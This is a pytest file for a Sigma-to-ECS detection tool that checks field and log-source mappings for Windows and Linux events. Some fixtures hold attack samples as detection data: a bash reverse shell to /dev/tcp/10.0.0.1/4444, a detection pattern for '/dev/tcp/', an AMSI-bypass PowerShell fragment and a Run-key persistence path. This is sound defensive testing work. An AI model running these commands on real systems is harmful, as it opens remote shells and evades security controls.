"""Sigma field names and log sources on ECS events (``shellwatch.query.sigma_fields``).

References: pySigma's ECS pipeline for Windows, ``ecs_windows`` (pysigma-backend-elasticsearch,
``sigma/pipelines/elasticsearch/windows.py``); pySigma's Windows channel table (``sigma/pipelines/common.py``,
``windows_logsource_mapping``); Elastic's Sysmon ingest pipeline (elastic/beats
``x-pack/winlogbeat/module/sysmon/ingest/sysmon.yml``: event categorization, hashes, user split); the Sigma
specification's "LogSource" section (``specification/sigma-rules-specification.md``).
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from sigma.rule import SigmaLogSource, SigmaRule

from shellwatch.engine.compile_python import compile_predicate
from shellwatch.query.sigma import logsource_support, sigma_rule_to_ir
from shellwatch.query.sigma_fields import (
    WINDOWS_FIELDS,
    WINDOWS_FIELDS_BY_LOGSOURCE,
    FieldTarget,
    HashTarget,
    field_targets,
)

Predicate = Callable[[Mapping[str, Any]], bool]

WINDOWS = {"host.os.type": "windows"}
PROCESS_START = {**WINDOWS, "event.category": ["process"], "event.type": ["start"]}
MD5 = "0D4E6F8A1B2C3D4E5F60718293A4B5C6"
IMPHASH = "F34D5F2D4577ED6D9CEEC516C1F5A744"


def rule_text(detection: str, logsource: str) -> str:
    return (
        f"title: test\nlogsource:\n{textwrap.indent(textwrap.dedent(logsource).strip(), '    ')}\n"
        "detection:\n" + textwrap.indent(textwrap.dedent(detection).strip("\n"), "    ") + "\n"
    )


def sigma(detection: str, logsource: str = "product: windows\ncategory: process_creation") -> Predicate:
    return compile_predicate(sigma_rule_to_ir(SigmaRule.from_yaml(rule_text(detection, logsource))))


def windows(category: str | None = None, service: str | None = None) -> SigmaLogSource:
    return SigmaLogSource(category=category, product="windows", service=service)


# -- the process_creation log source ---------------------------------------------------------------------------------

CMD = "sel:\n    Image|endswith: '\\cmd.exe'\ncondition: sel"


def test_process_creation_selects_windows_process_start_events() -> None:
    """``product: windows`` -> ``host.os.type: windows`` (case-insensitive); ``category: process_creation`` ->
    Elastic's ``event.category: process`` and ``event.type: start`` (Sysmon 1, Security 4688, Elastic Defend)."""
    match = sigma(CMD)
    event = {**PROCESS_START, "process.executable": r"C:\Windows\System32\cmd.exe"}
    assert match(event)
    assert match({**event, "host.os.type": "Windows", "event.category": "process", "event.type": "start"})
    assert not match({**event, "host.os.type": "linux"})
    assert not match({key: value for key, value in event.items() if key != "host.os.type"})
    assert not match({**event, "event.type": ["end"]})
    assert not match({**event, "event.category": ["file"], "event.type": ["creation"]})


def test_security_4688_in_ecs_is_read_like_sysmon() -> None:
    """Elastic's Security pipeline writes 4688's NewProcessName / ParentProcessName to ``process.executable`` /
    ``process.parent.executable``, the fields ``Image`` / ``ParentImage`` map to, so one rule reads both sources."""
    match = sigma(r"""
        sel:
            ParentImage|endswith: '\w3wp.exe'
            Image|endswith: '\cmd.exe'
        condition: sel
    """)
    security_4688 = {
        **PROCESS_START,
        "event.code": "4688",
        "winlog.channel": "Security",
        "process.executable": r"C:\Windows\System32\cmd.exe",
        "process.parent.executable": r"c:\windows\system32\inetsrv\w3wp.exe",
        "winlog.event_data.MandatoryLabel": "S-1-16-12288",
    }
    assert match(security_4688)


# -- field names ----------------------------------------------------------------------------------------------------


def test_mapped_unmapped_and_dotted_field_names() -> None:
    """``ecs_windows``: mapped fields go to ECS, unmapped ones to ``winlog.event_data.<Field>``, names that already
    look like a dotted path stay as they are."""
    process = windows("process_creation")
    assert field_targets("Image", process) == (FieldTarget("process.executable"),)
    assert field_targets("ParentCommandLine", process) == (FieldTarget("process.parent.command_line"),)
    assert field_targets("OriginalFileName", process) == (FieldTarget("process.pe.original_file_name"),)
    assert field_targets("GrandParentImage", process) == (FieldTarget("winlog.event_data.GrandParentImage"),)
    assert field_targets("process.name", process) == (FieldTarget("process.name"),)
    assert field_targets("OriginalFileName", windows("image_load")) == (FieldTarget("file.pe.original_file_name"),)
    assert field_targets("CommandLine", windows(service="security")) == (FieldTarget("process.command_line"),)
    assert field_targets("CommandLine", windows("file_event")) == (FieldTarget("winlog.event_data.CommandLine"),)


def test_field_tables_follow_the_installed_ecs_windows_pipeline() -> None:
    """The transcribed tables equal pySigma's ``ecs_windows`` except for the documented deviations
    (``.caseless`` dropped, ``ParentProcessName`` -> ``process.parent.executable``, ``image_loaded`` /
    ``driver_loaded`` -> ``image_load`` / ``driver_load``)."""
    windows_pipeline = pytest.importorskip("sigma.pipelines.elasticsearch.windows")
    pipeline = windows_pipeline.ecs_windows()
    (item,) = [item for item in pipeline.items if item.identifier == "ecs_windows_field_mapping"]
    upstream = {field: path.removesuffix(".caseless") for field, path in item.transformation.mapping.items()}
    upstream["ParentProcessName"] = "process.parent.executable"
    assert dict(WINDOWS_FIELDS) == upstream
    corrected = {"image_loaded": "image_load", "driver_loaded": "driver_load"}
    variable = {
        field: tuple((kind, corrected.get(name, name), path) for kind, name, path in rows)
        for field, rows in windows_pipeline.ecs_windows_variable_mappings.items()
    }
    assert dict(WINDOWS_FIELDS_BY_LOGSOURCE) == variable


def test_user_reads_the_raw_domain_and_name_and_ecs_user_name() -> None:
    """Sysmon's ``User`` is ``DOMAIN\\name``; Elastic keeps ``winlog.event_data.User`` and splits it into
    ``user.domain`` / ``user.name``. SigmaHQ's ``User|contains: 'AUTHORI'`` needs the raw string."""
    match = sigma("sel:\n    User|contains: 'AUTHORI'\ncondition: sel")
    assert match({**PROCESS_START, "winlog.event_data.User": "NT AUTHORITY\\SYSTEM", "user.name": "SYSTEM"})
    assert not match({**PROCESS_START, "winlog.event_data.User": "CORP\\bob", "user.name": "bob"})
    by_name = sigma("sel:\n    User: 'root'\ncondition: sel")
    assert by_name({**PROCESS_START, "user.name": "root"})


def test_integrity_level_reads_sysmon_4688_and_defend() -> None:
    """``IntegrityLevel``: Sysmon's label, Security 4688's ``MandatoryLabel`` SID (SigmaHQ lists both forms) and
    Elastic Defend's ``process.Ext.token.integrity_level_name``."""
    match = sigma("sel:\n    IntegrityLevel:\n        - 'System'\n        - 'S-1-16-16384'\ncondition: sel")
    assert match({**PROCESS_START, "winlog.event_data.IntegrityLevel": "System"})
    assert match({**PROCESS_START, "winlog.event_data.MandatoryLabel": "S-1-16-16384"})
    assert match({**PROCESS_START, "process.Ext.token.integrity_level_name": "system"})
    assert not match({**PROCESS_START, "winlog.event_data.IntegrityLevel": "Medium"})


def test_hashes_match_the_raw_string_and_the_parsed_ecs_fields() -> None:
    """Sysmon ``Hashes`` (``SHA1=..,MD5=..,IMPHASH=..``): Elastic keeps the raw string and parses it into
    ``process.hash.*`` / ``process.pe.imphash``, lower-cased. ``Hashes|contains: 'MD5=...'`` matches either."""
    match = sigma(f"sel:\n    Hashes|contains:\n        - 'MD5={MD5}'\n        - 'IMPHASH={IMPHASH}'\ncondition: sel")
    raw = f"SHA1=0000000000000000000000000000000000000001,MD5={MD5},IMPHASH=00000000000000000000000000000000"
    assert match({**PROCESS_START, "winlog.event_data.Hashes": raw})
    assert match({**PROCESS_START, "process.hash.md5": MD5.lower()})
    assert match({**PROCESS_START, "process.pe.imphash": IMPHASH.lower()})
    assert not match({**PROCESS_START, "process.hash.md5": "f" * 32})
    assert not match({**PROCESS_START, "process.hash.sha256": MD5.lower()})


def test_hash_prefix_presence_and_all_zero_hashes() -> None:
    """``'IMPHASH='`` alone asks whether an imphash is present; an all-zero hash exists only in the raw string
    (Elastic drops all-zero hashes when it parses them)."""
    present = sigma("sel:\n    Hashes|contains: 'IMPHASH='\ncondition: sel")
    assert present({**PROCESS_START, "process.pe.imphash": IMPHASH.lower()})
    assert present({**PROCESS_START, "winlog.event_data.Hashes": f"MD5={MD5},IMPHASH={IMPHASH}"})
    assert not present({**PROCESS_START, "process.hash.md5": MD5.lower()})
    zero = sigma("sel:\n    Hashes|contains: 'IMPHASH=00000000000000000000000000000000'\ncondition: sel")
    assert zero({**PROCESS_START, "winlog.event_data.Hashes": "MD5=1,IMPHASH=00000000000000000000000000000000"})
    assert not zero({**PROCESS_START, "process.hash.md5": MD5.lower()})


def test_hash_fields_follow_the_category() -> None:
    """Elastic puts hashes of a loaded image or driver in ``file.hash.*`` / ``file.pe.imphash``."""
    assert field_targets("Hashes", windows("process_creation"))[-1] == HashTarget("process")
    assert field_targets("Hashes", windows("driver_load"))[-1] == HashTarget("file")
    match = sigma(
        f"sel:\n    Hashes|contains: 'MD5={MD5}'\ncondition: sel",
        "product: windows\ncategory: driver_load",
    )
    driver = {**WINDOWS, "event.category": ["driver"], "event.type": ["start"]}
    assert match({**driver, "file.hash.md5": MD5.lower()})
    assert not match({**driver, "process.hash.md5": MD5.lower()})


def test_initiated_maps_to_network_direction() -> None:
    """``ecs_windows`` rewrites ``Initiated: 'true'``/``'false'`` to ``network.direction: egress``/``ingress``;
    the raw Sysmon string works too."""
    match = sigma("sel:\n    Initiated: 'true'\ncondition: sel", "product: windows\ncategory: network_connection")
    connection = {**WINDOWS, "event.category": ["network"], "event.type": ["start", "connection"]}
    assert match({**connection, "network.direction": "egress"})
    assert match({**connection, "winlog.event_data.Initiated": "true"})
    assert not match({**connection, "network.direction": "ingress"})


def test_linux_process_creation_uses_ecs_process_fields() -> None:
    """Linux rules use the same Sysmon names (Sysmon for Linux); they map to the ECS fields Elastic Defend and
    Auditbeat write, on ``host.os.type: linux`` process starts."""
    match = sigma(
        "sel:\n    Image|endswith: '/bash'\n    CommandLine|contains: '/dev/tcp/'\ncondition: sel",
        "product: linux\ncategory: process_creation",
    )
    event = {
        "host.os.type": "linux",
        "event.category": ["process"],
        "event.type": ["start"],
        "process.executable": "/usr/bin/bash",
        "process.command_line": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    }
    assert match(event)
    assert not match({**event, "host.os.type": "windows"})


# -- other log sources ----------------------------------------------------------------------------------------------


def test_network_connection_excludes_dns_events() -> None:
    """Elastic categorizes Sysmon 3 as network/[start, connection, protocol] and Sysmon 22 (DNS) as
    network/[connection, protocol, info]: ``network_connection`` asks for ``start``, ``dns_query`` for a DNS
    question."""
    connection = sigma(
        "sel:\n    Image|endswith: '\\x.exe'\ncondition: sel", "product: windows\ncategory: network_connection"
    )
    dns = sigma("sel:\n    Image|endswith: '\\x.exe'\ncondition: sel", "product: windows\ncategory: dns_query")
    sysmon_3 = {**WINDOWS, "event.category": ["network"], "event.type": ["start", "connection", "protocol"]}
    sysmon_22 = {**WINDOWS, "event.category": ["network"], "event.type": ["connection", "protocol", "info"]}
    sysmon_22["dns.question.name"] = "evil.example"
    for event in (sysmon_3, sysmon_22):
        event["process.executable"] = r"C:\t\x.exe"
    assert connection(sysmon_3)
    assert not connection(sysmon_22)
    assert dns(sysmon_22)
    assert not dns(sysmon_3)


def test_sysmon_only_categories_name_the_event_code() -> None:
    """Categories Elastic files under a shared process/access or process/change (``process_access`` = Sysmon 10,
    ``image_load`` = Sysmon 7) select the Sysmon event code on the Sysmon channel; Elastic Defend's library
    events (``event.category: library``) are image loads too."""
    access = sigma("sel:\n    GrantedAccess: '0x1010'\ncondition: sel", "product: windows\ncategory: process_access")
    sysmon_10 = {
        **WINDOWS,
        "event.code": "10",
        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
        "winlog.event_data.GrantedAccess": "0x1010",
    }
    assert access(sysmon_10)
    assert access({**sysmon_10, "event.code": 10})
    assert not access({**sysmon_10, "event.code": "8"})
    assert not access({**sysmon_10, "winlog.channel": "Security"})
    image_load = sigma(
        "sel:\n    ImageLoaded|endswith: '\\x.dll'\ncondition: sel", "product: windows\ncategory: image_load"
    )
    loaded = {**WINDOWS, "file.path": r"C:\t\x.dll"}
    assert image_load({**loaded, "event.code": "7", "event.provider": "Microsoft-Windows-Sysmon"})
    assert image_load({**loaded, "event.category": ["library"], "event.type": ["start"]})
    assert not image_load({**loaded, "event.category": ["process"], "event.type": ["start"]})


def test_registry_set_reads_sysmon_event_type_or_defend_action() -> None:
    """``registry_set`` is Sysmon 13 (``EventType: SetValue``) or Elastic Defend's registry modification."""
    match = sigma(
        "sel:\n    TargetObject|contains: '\\Run\\'\ncondition: sel", "product: windows\ncategory: registry_set"
    )
    key = r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\evil"
    registry = {**WINDOWS, "event.category": ["configuration", "registry"], "registry.path": key}
    assert match({**registry, "winlog.event_data.EventType": "SetValue"})
    assert match({**registry, "event.action": "modification"})
    assert not match({**registry, "winlog.event_data.EventType": "DeleteValue"})


def test_ps_script_is_event_4104_on_the_powershell_channels() -> None:
    match = sigma(
        "sel:\n    ScriptBlockText|contains: 'AmsiUtils'\ncondition: sel", "product: windows\ncategory: ps_script"
    )
    event = {
        **WINDOWS,
        "event.code": "4104",
        "winlog.channel": "Microsoft-Windows-PowerShell/Operational",
        "powershell.file.script_block_text": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
    }
    assert match(event)
    assert match({**event, "winlog.channel": "PowerShellCore/Operational"})
    assert not match({**event, "event.code": "4103"})


def test_services_select_their_channel_or_provider() -> None:
    """``service`` -> ``winlog.channel`` per pySigma's ``windows_logsource_mapping``; Security and Sysmon also by
    ``event.provider`` for sources without a channel."""
    match = sigma("sel:\n    EventID: 4624\ncondition: sel", "product: windows\nservice: security")
    logon = {**WINDOWS, "event.code": "4624"}
    assert match({**logon, "winlog.channel": "Security"})
    assert match({**logon, "event.provider": "Microsoft-Windows-Security-Auditing"})
    assert not match({**logon, "winlog.channel": "System"})
    system = sigma("sel:\n    EventID: 7045\ncondition: sel", "product: windows\nservice: system")
    assert system({**WINDOWS, "event.code": "7045", "winlog.channel": "System"})


def test_unknown_category_keeps_the_product_condition_and_says_so() -> None:
    """An unknown category keeps the detection and the product condition; ``logsource_support`` says why."""
    text = rule_text("sel:\n    Foo: 'bar'\ncondition: sel", "product: windows\ncategory: quantum_event")
    rule = SigmaRule.from_yaml(text)
    reason = logsource_support(rule)
    assert reason is not None
    assert "quantum_event" in reason
    match = compile_predicate(sigma_rule_to_ir(rule))
    assert match({**WINDOWS, "winlog.event_data.Foo": "bar"})
    assert not match({"host.os.type": "linux", "winlog.event_data.Foo": "bar"})


def test_supported_log_sources_report_nothing() -> None:
    for logsource in (
        "product: windows\ncategory: process_creation",
        "product: windows\nservice: security",
        "product: linux\ncategory: process_creation",
        "product: linux",
    ):
        rule = SigmaRule.from_yaml(rule_text("sel:\n    CommandLine: x\ncondition: sel", logsource))
        assert logsource_support(rule) is None, logsource


def test_other_products_only_match_their_own_module() -> None:
    """A product shellwatch does not map (okta...) falls back to ``event.module`` naming it, so its rules, and
    keyword rules above all, never fire on unrelated (Windows) events."""
    text = rule_text(
        "keywords:\n    - 'policy.lifecycle.deactivate'\ncondition: keywords", "product: okta\nservice: okta"
    )
    rule = SigmaRule.from_yaml(text)
    assert logsource_support(rule) is not None
    match = compile_predicate(sigma_rule_to_ir(rule))
    assert match({"event.module": "okta", "event.action": "policy.lifecycle.deactivate"})
    assert not match({**PROCESS_START, "process.command_line": "x policy.lifecycle.deactivate"})
